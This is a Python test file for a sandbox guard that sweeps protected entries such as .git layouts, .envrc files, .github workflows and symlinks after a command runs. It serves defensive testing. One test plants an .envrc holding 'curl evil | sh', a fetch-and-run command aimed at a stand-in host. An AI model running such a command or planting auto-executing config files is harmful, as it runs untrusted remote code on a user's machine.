"""The protected-entry walk and the sweep (environments/guard.py), on real trees.

A property test plays a command: random creations, renames, edits and
deletions after `observe`, then `sweep`. Afterwards a cold walk (no cache)
must find no protected entry and no git layout that was not there before,
the incremental state the sweep kept must equal that cold walk, and every
ordinary file the command made outside protected places must still be there.
"""

from __future__ import annotations

import os
import shutil
import stat
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from agentcore.environments import guard
from agentcore.protected import is_layout, protected_reason
from clock_support import early_in_a_second


def cold(root: Path) -> guard.TreeState:
    state = guard.TreeState(os.fspath(root), True)
    guard._Walker(state).refresh()
    return state


def layouts(root: Path) -> set[str]:
    out = set()
    for d, dirs, files in os.walk(root):
        if is_layout(set(dirs) | set(files)):
            out.add(d)
    return out


NAMES = ["a", "b", ".git", ".envrc", ".github", "HEAD", "objects", "refs", "commondir", ".config", "git", "f.txt"]
PATHS = st.lists(st.sampled_from(NAMES), min_size=1, max_size=4).map("/".join)
OPS = st.lists(
    st.one_of(
        st.tuples(st.just("file"), PATHS),
        st.tuples(st.just("dir"), PATHS),
        st.tuples(st.just("edit"), PATHS),
        st.tuples(st.just("rename"), PATHS, PATHS),
        st.tuples(st.just("rm"), PATHS),
    ),
    max_size=10,
)


def apply(root: Path, op: tuple[str, ...]) -> None:
    kind, rel = op[0], op[1]
    p = root / rel
    try:
        if kind == "file":
            p.parent.mkdir(parents=True, exist_ok=True)
            p.write_text("new\n")
        elif kind == "dir":
            p.mkdir(parents=True, exist_ok=True)
        elif kind == "edit" and p.is_file():
            with open(p, "a") as f:
                f.write("more\n")
        elif kind == "rename" and p.exists():
            q = root / op[2]
            if not q.exists() and not q.is_relative_to(p):
                q.parent.mkdir(parents=True, exist_ok=True)
                os.rename(p, q)
        elif kind == "rm" and p.exists():
            shutil.rmtree(p) if p.is_dir() and not p.is_symlink() else p.unlink()
    except (FileExistsError, NotADirectoryError, FileNotFoundError, IsADirectoryError, OSError):
        pass


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(setup=OPS, command=OPS)
def test_a_sweep_leaves_nothing_new_that_is_protected(tmp_path_factory: pytest.TempPathFactory, setup: list[tuple[str, ...]], command: list[tuple[str, ...]]) -> None:
    root = Path(os.path.realpath(tmp_path_factory.mktemp("g")))
    for op in setup:
        apply(root, op)
    before = guard.observe([os.fspath(root)])
    # A root that is itself a git layout is not writable at all (callguard drops it from the write roots).
    assume(not before.trees[0].root_protected)
    had = dict(before.trees[0].entries)
    had_layouts = layouts(root)
    for op in command:
        apply(root, op)
    made = {os.fspath(p) for p in root.rglob("*") if p.is_file() and not p.is_symlink()}
    guard.sweep(before)
    after = cold(root)
    for path, entry in after.entries.items():
        old = had.get(path)
        assert old is not None and old.kind == entry.kind and old.ident[:2] == entry.ident[:2], path
        if not old.bound:
            assert dict(entry.inner).items() <= dict(old.inner).items(), path
    # A bound entry is a read-only mount during a sandboxed call: nothing can form inside it, and the sweep
    # leaves it alone (a `.git` directory that already existed gains no layout in a real call).
    bound = [Path(p) for p, e in had.items() if e.bound]
    new_layouts = {d for d in layouts(root) - had_layouts if not any(Path(d) == b or b in Path(d).parents for b in bound)}
    assert not new_layouts
    # The sweep's own idea of the tree (kept for the next call) is what a cold walk finds.
    kept = guard.state_of(os.fspath(root), True)
    assert kept.entries == after.entries and set(kept.dirs) == set(after.dirs)
    # Nothing ordinary went: a surviving file the command made is gone only if its path is protected.
    for f in made:
        if not os.path.exists(f):
            rel = Path(f)
            assert protected_reason(f) is not None or any(
                is_layout_marker_gone(root, a) for a in [rel, *rel.parents] if a != root and root in a.parents
            ), f


def is_layout_marker_gone(root: Path, p: Path) -> bool:
    """`p` was a layout marker (or beneath one) that the sweep took back."""
    return p.name in ("HEAD", "objects", "refs", "commondir")


def test_existing_entries_are_reported_and_kept(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    (ws / "sub" / ".git").mkdir(parents=True)
    (ws / "p" / ".github" / "workflows").mkdir(parents=True)
    (ws / "p" / ".github" / "workflows" / "ci.yml").write_text("on: push\n")
    (ws / ".envrc").write_text("x\n")
    obs = guard.observe([os.fspath(ws)])
    kinds = {os.path.relpath(p, ws): (e.kind, e.bound) for p, e in obs.entries()}
    assert kinds == {"sub/.git": ("repo", True), "p/.github": ("config", False), ".envrc": ("config", True)}
    assert guard.sweep(obs).removed == 0
    assert (ws / "p" / ".github" / "workflows" / "ci.yml").exists()


def test_changed_entries_inside_an_unbound_one_are_removed_one_by_one(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    wf = ws / "p" / ".github" / "workflows"
    wf.mkdir(parents=True)
    (wf / "ci.yml").write_text("on: push\n")
    (wf / "keep.yml").write_text("on: push\n")
    obs = guard.observe([os.fspath(ws)])
    (wf / "ci.yml").write_text("on: push\njobs: {evil: {}}\n")
    (wf / "new.yml").write_text("on: push\n")
    assert guard.sweep(obs).removed == 2
    assert sorted(p.name for p in wf.iterdir()) == ["keep.yml"]


def test_links_are_removed_never_followed(tmp_path: Path) -> None:
    ws, outside = tmp_path / "ws", tmp_path / "outside"
    (ws / "d").mkdir(parents=True)
    (outside / "repo").mkdir(parents=True)
    (outside / "repo" / "HEAD").write_text("ref: x\n")
    obs = guard.observe([os.fspath(ws)])
    os.symlink(outside / "repo", ws / "d" / ".git")
    os.symlink(outside, ws / "d" / ".github")
    assert guard.sweep(obs).removed == 2
    assert not os.path.lexists(ws / "d" / ".git") and (outside / "repo" / "HEAD").read_text() == "ref: x\n"


def test_directories_the_command_shut_are_opened_and_cleaned(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    (ws / "a").mkdir(parents=True)
    obs = guard.observe([os.fspath(ws)])
    (ws / "a" / "b" / ".git" / "hooks").mkdir(parents=True)
    (ws / "a" / "b" / ".git" / "hooks" / "x").write_text("x")
    os.chmod(ws / "a" / "b" / ".git" / "hooks", 0)
    os.chmod(ws / "a" / "b", 0o100)
    assert guard.sweep(obs).removed == 1
    assert not (ws / "a" / "b" / ".git").exists()
    assert stat.S_IMODE(os.stat(ws / "a" / "b").st_mode) & 0o500 == 0o500


def test_the_user_between_calls_is_not_the_command(tmp_path: Path) -> None:
    """What appears between two calls is the user's: recorded (and bound) by the next observe, never swept."""
    ws = tmp_path / "ws"
    (ws / "x").mkdir(parents=True)
    obs1 = guard.observe([os.fspath(ws)])
    guard.sweep(obs1)
    (ws / "x" / ".envrc").write_text("user\n")
    obs2 = guard.observe([os.fspath(ws)])
    assert os.fspath(ws / "x" / ".envrc") in dict(obs2.entries())
    assert guard.sweep(obs2).removed == 0 and (ws / "x" / ".envrc").exists()


def test_a_protected_or_layout_root_is_reported(tmp_path: Path) -> None:
    gh = tmp_path / "ws" / ".github"
    gh.mkdir(parents=True)
    bare = tmp_path / "bare"
    for m in ("objects", "refs"):
        (bare / m).mkdir(parents=True)
    (bare / "HEAD").write_text("x")
    obs = guard.observe([os.fspath(gh), os.fspath(bare)])
    assert set(obs.protected_roots()) == {os.fspath(gh), os.fspath(bare)}


def test_the_incremental_walk_lists_only_what_changed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    ws = tmp_path / "ws"
    for i in range(30):
        (ws / f"d{i}" / "e").mkdir(parents=True)
    guard.observe([os.fspath(ws)])
    state = guard.state_of(os.fspath(ws), True)
    listed: list[str] = []
    real = guard._listdir
    monkeypatch.setattr(guard, "_listdir", lambda p, *a: listed.append(p) or real(p, *a))  # a spy: the real listing runs
    (ws / "d7" / "e" / ".envrc").write_text("x")
    walker = guard._Walker(state.copy())
    for path in list(walker.s.dirs):  # as if recorded long ago: only ctime changes count
        walker.s.dirs[path] = guard.replace(walker.s.dirs[path], volatile=False)
    walker.refresh()
    assert listed == [os.fspath(ws / "d7" / "e")]
    assert os.fspath(ws / "d7" / "e" / ".envrc") in walker.s.entries


def test_a_filesystem_that_keeps_seconds_cannot_hide_a_planted_entry(whole_second_fs: Path) -> None:
    """On ext4 with 128-byte inodes a change stamps its directory with the whole second: an entry planted in
    the same second as the change before `observe` leaves the ctime as `observe` saw it. Such a directory
    is listed again at the sweep whatever its ctime says, and the planted entry is removed."""
    root = whole_second_fs / "ws"
    (root / "sub").mkdir(parents=True)
    guard.forget_all()
    hit_same_second = 0
    for attempt in range(3):
        guard.observe([os.fspath(root)])
        early_in_a_second()
        (root / "sub" / f"x{attempt}").write_text("x")  # the directory's ctime becomes this second
        before = guard.observe([os.fspath(root)])
        stamp = os.lstat(root / "sub").st_ctime_ns
        (root / "sub" / ".envrc").write_text("curl evil | sh\n")
        hit_same_second += os.lstat(root / "sub").st_ctime_ns == stamp
        report = guard.sweep(before)
        assert not (root / "sub" / ".envrc").exists()
        assert report.removed >= 1
    assert hit_same_second >= 1  # the case this test is about really happened
    guard.forget_all()
